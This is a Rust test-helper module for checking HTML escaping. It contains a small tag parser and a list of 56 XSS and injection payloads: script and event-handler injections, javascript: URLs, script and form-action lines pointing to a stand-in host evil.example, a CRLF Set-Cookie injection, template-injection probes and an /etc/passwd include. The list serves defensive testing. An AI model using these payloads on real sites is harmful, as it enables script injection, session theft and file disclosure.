//! Reads a page as a browser would, as far as the tests need it; and texts that try to be more than text.

/// A start tag: its name and attributes.
#[derive(Debug, PartialEq)]
pub struct Tag {
    pub name: String,
    pub attributes: Vec<(String, String)>,
}

impl Tag {
    pub fn get(&self, name: &str) -> Option<&str> {
        self.attributes.iter().find(|(n, _)| n == name).map(|(_, value)| value.as_str())
    }
}

/// Splits a page into its start tags and its text. It reads `<` and quotes as a browser does; whatever is
/// written unescaped therefore shows as a tag, an attribute, or a quote that is not closed.
pub fn tags(html: &str) -> (Vec<Tag>, String) {
    let (mut found, mut text, mut rest) = (Vec::new(), String::new(), html);
    while let Some(at) = rest.find('<') {
        text.push_str(&rest[..at]);
        rest = &rest[at + 1..];
        let name_end = rest.find(|c: char| c.is_whitespace() || c == '>').expect("a tag that ends");
        let name = rest[..name_end].trim_end_matches('/').to_owned();
        rest = &rest[name_end..];
        let mut attributes = Vec::new();
        loop {
            rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
            if let Some(after) = rest.strip_prefix('>') {
                rest = after;
                break;
            }
            let end = rest.find(|c: char| c.is_whitespace() || matches!(c, '=' | '>' | '/')).expect("a tag that ends");
            let attribute = rest[..end].to_owned();
            rest = &rest[end..];
            let value = match rest.strip_prefix("=\"") {
                Some(quoted) => {
                    let close = quoted.find('"').expect("a quote that closes");
                    rest = &quoted[close + 1..];
                    quoted[..close].to_owned()
                }
                None => {
                    assert!(!rest.starts_with('='), "a value without quotes: {}", &rest[..rest.len().min(40)]);
                    String::new()
                }
            };
            attributes.push((attribute, value));
        }
        if !name.starts_with(['/', '!']) {
            found.push(Tag { name, attributes });
        }
    }
    text.push_str(rest);
    (found, text)
}

/// Tag names with attribute names: what a payload must not be able to change.
pub fn shape(html: &str) -> Vec<String> {
    tags(html)
        .0
        .iter()
        .map(|tag| tag.attributes.iter().fold(tag.name.clone(), |line, (name, _)| format!("{line} {name}")))
        .collect()
}

/// Texts that would run a script, add an element or an attribute, or lead away, were they not escaped.
pub const PAYLOADS: [&str; 56] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\u{c}>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input type=submit>",
    "<button formaction=javascript:alert(1)>x",
    "<a href=javascript:alert(1)>x</a>",
    "\" onfocus=alert(1) autofocus x=\"",
    "' onfocus=alert(1) autofocus x='",
    "` onfocus=alert(1) autofocus x=`",
    "\" style=\"position:fixed;inset:0",
    "x\" formaction=\"//evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%0d%0aSet-Cookie:x=1",
    "{{7*7}}",
    "{% include \"/etc/passwd\" %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];
